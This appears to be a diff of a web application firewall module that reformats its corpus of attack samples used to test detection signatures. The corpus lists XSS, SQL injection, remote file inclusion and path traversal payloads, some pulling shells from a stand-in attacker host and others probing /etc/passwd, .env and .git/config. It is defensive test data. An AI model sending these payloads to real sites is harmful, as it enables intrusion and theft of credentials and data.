@@ -77,7 +77,7 @@ export function clientAppOf(userAgent: string): string | null {
 
 /**
  * WAF signatures per category, matched against the decoded path and query (and, for XSS and SQL
- * injection, the referer). Documented in docs/website-protection.md with the corpus the tests use.
+ * injection, the referer). Documented in docs/websites.md with the corpus the tests use.
  */
 export const WAF_SIGNATURES: Record<WafCategory, Array<{ id: string; re: RegExp }>> = {
   xss: [
@@ -137,18 +137,38 @@ export function detect(category: WafCategory, text: string): string[] {
  */
 export const WAF_ATTACK_SAMPLES: Record<WafCategory, string[]> = {
   xss: [
-    '/search?q=<script>alert(1)</script>', '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', '/p?x=<img src=x onerror=alert(1)>',
-    '/p?x=<svg/onload=alert(1)>', '/go?u=javascript:alert(1)', '/?a=<iframe src=//evil.example>', '/?n="><script>eval(atob(x))</script>',
+    '/search?q=<script>alert(1)</script>',
+    '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
+    '/p?x=<img src=x onerror=alert(1)>',
+    '/p?x=<svg/onload=alert(1)>',
+    '/go?u=javascript:alert(1)',
+    '/?a=<iframe src=//evil.example>',
+    '/?n="><script>eval(atob(x))</script>',
   ],
   sqli: [
-    "/item?id=1' OR '1'='1", '/item?id=1 UNION SELECT username,password FROM users', '/item?id=1; DROP TABLE users', "/login?u=admin'--",
-    '/item?id=1 AND 1=1', '/item?id=1 OR sleep(5)', '/x?id=1 union all select null,table_name from information_schema.tables',
+    "/item?id=1' OR '1'='1",
+    '/item?id=1 UNION SELECT username,password FROM users',
+    '/item?id=1; DROP TABLE users',
+    "/login?u=admin'--",
+    '/item?id=1 AND 1=1',
+    '/item?id=1 OR sleep(5)',
+    '/x?id=1 union all select null,table_name from information_schema.tables',
   ],
   rfi: [
-    '/index.php?page=http://evil.example/shell.txt', '/index.php?file=ftp://evil.example/x.php', '/?p=php://input',
-    '/?p=data://text/plain;base64,PD9waHA=', '/?template=http://evil.example/t',
+    '/index.php?page=http://evil.example/shell.txt',
+    '/index.php?file=ftp://evil.example/x.php',
+    '/?p=php://input',
+    '/?p=data://text/plain;base64,PD9waHA=',
+    '/?template=http://evil.example/t',
   ],
   illegalResource: [
-    '/../../etc/passwd', '/static/..%2f..%2fetc/passwd', '/.env', '/.git/config', '/backup.sql', '/wp-config.php', '/.htaccess', '/index.php.bak',
+    '/../../etc/passwd',
+    '/static/..%2f..%2fetc/passwd',
+    '/.env',
+    '/.git/config',
+    '/backup.sql',
+    '/wp-config.php',
+    '/.htaccess',
+    '/index.php.bak',
   ],
 };
